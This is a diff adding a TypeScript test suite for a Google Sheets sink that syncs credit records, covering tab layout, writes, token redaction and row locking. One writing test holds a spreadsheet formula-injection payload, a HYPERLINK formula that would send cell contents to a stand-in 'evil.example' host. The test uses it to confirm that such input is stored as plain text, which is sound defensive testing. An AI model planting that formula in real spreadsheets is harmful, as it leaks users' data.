@@ -1,0 +1,319 @@
+import { CONFIG_DEFAULTS, headersOf } from '../../core/sheet-contract';
+import { STATUSES } from '../../core/status';
+import { indexColumns } from '../../core/table';
+import type { SheetsServer } from '../servers/sheets-server';
+import {
+  changesFor,
+  creditRow,
+  creditsByKey,
+  IDENTITY,
+  lockRanges,
+  makeSink,
+  SHEET_ID,
+  startServer,
+  tab,
+} from './sheets-helpers';
+
+let server: SheetsServer;
+beforeEach(async () => {
+  server = await startServer();
+});
+afterEach(() => server.close());
+
+const ss = () => server.state.sheet(SHEET_ID);
+
+describe('Google Sheets sink: layout', () => {
+  test('the first read creates the five tabs with headers, frozen row, filter, Status dropdown and hidden Key in one batchUpdate', async () => {
+    const snap = await makeSink(server).read();
+    expect(server.stats.count('batchUpdate')).toBe(1);
+    expect(server.stats.count()).toBe(2); // get + batchUpdate (no contract tab yet, so nothing to batchGet)
+    const credits = tab(ss(), 'Credits');
+    expect(credits.cells[0]).toEqual(headersOf('credits'));
+    expect(credits.properties.gridProperties.frozenRowCount).toBe(1);
+    expect(credits.basicFilter?.range).toEqual({ sheetId: credits.properties.sheetId, startRowIndex: 0 });
+    expect(credits.basicFilter?.sortSpecs).toBeUndefined();
+    const idx = indexColumns('credits', headersOf('credits'));
+    expect(credits.hiddenColumns).toEqual([idx.key]);
+    const dropdown = credits.validations.find((v) => v.range.startColumnIndex === idx.status);
+    expect(dropdown?.rule?.condition?.values?.map((v) => v.userEnteredValue)).toEqual([...STATUSES]);
+    const moneyCols = credits.formats.map((f) => f.range.startColumnIndex).sort();
+    expect(moneyCols).toEqual([idx.amount, idx.distributorKeeps].sort());
+    expect(credits.formats.every((f) => f.fields === 'userEnteredFormat.numberFormat')).toBe(true);
+    expect(
+      tab(ss(), 'Config')
+        .cells.slice(1)
+        .map((r) => r[0]),
+    ).toEqual(CONFIG_DEFAULTS.map((d) => d.setting));
+    expect(snap.tabs.config.rows).toHaveLength(CONFIG_DEFAULTS.length);
+    expect(snap.tabs.credits.headers).toEqual(headersOf('credits'));
+    expect(tab(ss(), 'Sheet1')).toBeDefined(); // staff's own tab untouched
+  });
+
+  test('a second read changes nothing and sends no batchUpdate', async () => {
+    await makeSink(server).read();
+    const before = JSON.stringify(ss());
+    server.stats.reset();
+    const snap = await makeSink(server).read();
+    expect(server.stats.count('batchUpdate')).toBe(0);
+    expect(server.stats.count()).toBe(2);
+    expect(JSON.stringify(ss())).toBe(before);
+    expect(snap.tabs.audit.headers).toEqual(headersOf('audit'));
+  });
+
+  test('a missing header on an existing tab is added at the end; staff columns and their filter stay', async () => {
+    await makeSink(server).read();
+    const credits = tab(ss(), 'Credits');
+    const idx = indexColumns('credits', headersOf('credits'));
+    credits.cells[0][idx.flags] = 'Staff Column'; // staff renamed "Flags" into their own column
+    credits.basicFilter = {
+      range: { sheetId: credits.properties.sheetId, startRowIndex: 0 },
+      filterSpecs: [{ columnIndex: 1 }],
+    };
+    const snap = await makeSink(server).read();
+    expect(tab(ss(), 'Credits').cells[0][idx.flags]).toBe('Staff Column');
+    expect(snap.tabs.credits.headers[snap.tabs.credits.headers.length - 1]).toBe('Flags');
+    expect(tab(ss(), 'Credits').basicFilter?.filterSpecs).toEqual([{ columnIndex: 1 }]);
+  });
+
+  test('a Credits tab with data but no Key column is BAD_SHEET', async () => {
+    const sink = makeSink(server);
+    await sink.read();
+    await sink.write({ updates: [], appends: [creditRow(1)], audit: [] });
+    const credits = tab(ss(), 'Credits');
+    const idx = indexColumns('credits', headersOf('credits'));
+    credits.cells[0][idx.key] = null;
+    await expect(makeSink(server).read()).rejects.toMatchObject({
+      code: 'BAD_SHEET',
+      message: expect.stringContaining('no "Key" column'),
+    });
+  });
+
+  test('duplicated keys are an error that names the rows', async () => {
+    const sink = makeSink(server);
+    await sink.read();
+    await sink.write({
+      updates: [],
+      appends: [creditRow(1), creditRow(2), creditRow(1, { creditId: 'copy' })],
+      audit: [],
+    });
+    await expect(makeSink(server).read()).rejects.toMatchObject({
+      code: 'BAD_SHEET',
+      message: expect.stringContaining('"K000001" in rows 2, 4'),
+    });
+  });
+});
+
+describe('Google Sheets sink: writing', () => {
+  test('RAW keeps formula-like text as text', async () => {
+    const sink = makeSink(server);
+    await sink.read();
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    await sink.write({
+      updates: [],
+      appends: [
+        creditRow(1, { description: evil }),
+        creditRow(2, { description: '+1-2', notes: '@SUM(A1)' }),
+      ],
+      audit: [],
+    });
+    const rows = creditsByKey(ss());
+    expect(rows.get('K000001')!.Description).toBe(evil);
+    expect(rows.get('K000002')!.Description).toBe('+1-2');
+    const anyFormula = tab(ss(), 'Credits').cells.some((r) =>
+      r.some((c) => c !== null && typeof c === 'object'),
+    );
+    expect(anyFormula).toBe(false);
+  });
+
+  test('only the named fields are written: staff cells and a staff-added column are untouched', async () => {
+    const sink = makeSink(server);
+    await sink.read();
+    await sink.write({ updates: [], appends: [creditRow(1), creditRow(2)], audit: [] });
+    const credits = tab(ss(), 'Credits');
+    const idx = indexColumns('credits', headersOf('credits'));
+    credits.properties.gridProperties.columnCount += 1;
+    credits.cells[0][headersOf('credits').length] = 'Staff Comment';
+    credits.cells[1][headersOf('credits').length] = 'call them';
+    credits.cells[1][idx.notes] = 'staff note';
+    const snap = await sink.read();
+    await sink.write(changesFor(snap, [creditRow(1, { description: 'changed' }), creditRow(2)]));
+    const rows = creditsByKey(ss());
+    expect(rows.get('K000001')).toMatchObject({
+      Description: 'changed',
+      Notes: 'staff note',
+      'Staff Comment': 'call them',
+    });
+    const lastWrite = server.stats.requests.filter((r) => r.op === 'values.batchUpdate').pop()!;
+    expect(lastWrite.requestBytes).toBeLessThan(300); // one cell, not a row
+  });
+
+  test('the Authorization header carries the token, but no error message ever does', async () => {
+    const sink = makeSink(server);
+    await sink.read();
+    expect(server.lastAuthorization()).toBe('Bearer ya29.test-secret-token');
+    server.inject({ match: { op: 'values.batchGet' }, fault: { status: 403 } });
+    const err = await makeSink(server)
+      .read()
+      .catch((e: unknown) => e as Error);
+    expect(String(err)).toContain(
+      'Share the spreadsheet with the service account credit-sync@demo-project.iam.gserviceaccount.com as Editor',
+    );
+    expect(JSON.stringify(err) + String(err) + require('node:util').inspect(err, { depth: 8 })).not.toContain(
+      'ya29',
+    );
+  });
+
+  test('404 says to check the spreadsheet ID', async () => {
+    const sink = makeSink(server, { spreadsheetId: 'no-such-sheet' });
+    await expect(sink.read()).rejects.toMatchObject({
+      code: 'BAD_CONFIG',
+      message: expect.stringContaining('Check the spreadsheet ID'),
+    });
+  });
+
+  test('an update whose key vanished is skipped and reported', async () => {
+    const sink = makeSink(server);
+    await sink.read();
+    await sink.write({ updates: [], appends: [creditRow(1), creditRow(2)], audit: [] });
+    const snap = await sink.read();
+    const credits = tab(ss(), 'Credits');
+    credits.cells.splice(1, 1); // a person deletes K000001's row
+    const report = await sink.write(
+      changesFor(snap, [creditRow(1, { description: 'x' }), creditRow(2, { description: 'y' })]),
+    );
+    expect(report.skipped.map((s) => s.key)).toEqual(['K000001']);
+    expect(report.updatedRows).toBe(1);
+    expect(creditsByKey(ss()).get('K000002')!.Description).toBe('y');
+    expect(creditsByKey(ss()).has('K000001')).toBe(false);
+  });
+
+  test('audit rows are appended after the last audit row', async () => {
+    const sink = makeSink(server);
+    await sink.read();
+    const entry = (n: number) => ({
+      when: `2024-06-0${n}T00:00:00Z`,
+      who: 'sync',
+      action: 'added',
+      creditId: `CR-${n}`,
+      field: '',
+      before: '',
+      after: '=1+1',
+    });
+    await sink.write({ updates: [], appends: [], audit: [entry(1), entry(2)] });
+    await sink.write({ updates: [], appends: [], audit: [entry(3)] });
+    const audit = tab(ss(), 'Audit')
+      .cells.slice(1)
+      .map((r) => r[3]);
+    expect(audit).toEqual(['CR-1', 'CR-2', 'CR-3']);
+    expect(tab(ss(), 'Audit').cells[1][6]).toBe('=1+1');
+  });
+
+  test('the request count does not grow with the number of rows', async () => {
+    const counts: number[] = [];
+    for (const n of [10, 5000]) {
+      const s = await startServer();
+      const sink = makeSink(s);
+      const rows = Array.from({ length: n }, (_, i) =>
+        creditRow(i, { status: i % 3 === 0 ? 'PROCESSED' : 'PENDING_ASSIGN' }),
+      );
+      await sink.write(changesFor(await sink.read(), rows));
+      const snap = await sink.read();
+      await sink.write(
+        changesFor(
+          snap,
+          rows.map((r, i) => (i % 100 === 0 ? { ...r, description: 'changed' } : r)),
+        ),
+      );
+      counts.push(s.stats.count());
+      expect(creditsByKey(s.state.sheet(SHEET_ID)).size).toBe(n);
+      await s.close();
+    }
+    expect(counts[0]).toBe(counts[1]);
+  });
+
+  test('big appends are chunked under the byte budget, one request per chunk', async () => {
+    const sink = makeSink(server, { maxRequestBytes: 50_000 });
+    await sink.read();
+    await sink.write({
+      updates: [],
+      appends: Array.from({ length: 2000 }, (_, i) => creditRow(i)),
+      audit: [],
+    });
+    const writes = server.stats.requests.filter((r) => r.op === 'values.batchUpdate');
+    expect(writes.length).toBeGreaterThan(5);
+    expect(Math.max(...writes.map((w) => w.requestBytes))).toBeLessThan(50_000);
+    expect(creditsByKey(ss()).size).toBe(2000);
+  });
+});
+
+describe('Google Sheets sink: protection of locked rows', () => {
+  const statuses = [
+    'PROCESSED',
+    'PROCESSING',
+    'ASSIGNED',
+    'PROCESSED',
+    'PROCESSED',
+    'PENDING_ASSIGN',
+    'PROCESSING',
+  ];
+
+  test('contiguous locked rows become one range, editable only by the sync identity', async () => {
+    const sink = makeSink(server);
+    await sink.read();
+    const report = await sink.write({
+      updates: [],
+      appends: statuses.map((s, i) => creditRow(i, { status: s })),
+      audit: [],
+    });
+    expect(report.lockedRows).toBe(5);
+    expect(lockRanges(ss())).toEqual([`1-3:${IDENTITY}`, `4-6:${IDENTITY}`, `7-8:${IDENTITY}`]);
+    const pr = tab(ss(), 'Credits').protectedRanges[0];
+    expect(pr.warningOnly).toBe(false);
+    expect(pr.range?.startColumnIndex).toBeUndefined(); // all columns
+  });
+
+  test('recomputed idempotently: no pile-up, moved rows corrected, unlocked rows lose protection, staff ranges kept', async () => {
+    const sink = makeSink(server);
+    await sink.read();
+    await sink.write({
+      updates: [],
+      appends: statuses.map((s, i) => creditRow(i, { status: s })),
+      audit: [],
+    });
+    const credits = tab(ss(), 'Credits');
+    credits.protectedRanges.push({
+      protectedRangeId: 7,
+      description: 'staff: header',
+      range: { sheetId: credits.properties.sheetId, startRowIndex: 0, endRowIndex: 1 },
+    });
+    for (let run = 0; run < 3; run++) {
+      server.stats.reset();
+      await sink.write(changesFor(await sink.read(), []));
+      expect(lockRanges(ss())).toHaveLength(3);
+      const last = server.stats.requests.filter((r) => r.op === 'batchUpdate').pop()!;
+      expect(last.requestBytes).toBeLessThan(400); // only the lock release: nothing to fix
+    }
+    // A person sorts the rows by Status: the old ranges now cover the wrong rows.
+    const { sortRows } = await import('../servers/sheets-model');
+    sortRows(tab(ss(), 'Credits'), 1, indexColumns('credits', headersOf('credits')).status);
+    const snap = await sink.read();
+    await sink.write(
+      changesFor(snap, [creditRow(2, { status: 'PROCESSING' }), creditRow(0, { status: 'ASSIGNED' })]),
+    );
+    const sorted = tab(ss(), 'Credits')
+      .cells.slice(1)
+      .map((r) => r[indexColumns('credits', headersOf('credits')).status]);
+    const want = sorted
+      .map((s, i) => (s === 'PROCESSING' || s === 'PROCESSED' ? i + 1 : null))
+      .filter((x) => x !== null);
+    const covered = lockRanges(ss()).flatMap((r) => {
+      const [a, b] = r.split(':')[0].split('-').map(Number);
+      return Array.from({ length: b - a }, (_, k) => a + k);
+    });
+    expect(covered).toEqual(want);
+    expect(tab(ss(), 'Credits').protectedRanges.find((p) => p.protectedRangeId === 7)).toBeDefined();
+    expect(
+      tab(ss(), 'Credits').protectedRanges.filter((p) => p.description === 'credit-desk:locked').length,
+    ).toBeLessThanOrEqual(4);
+  });
+});
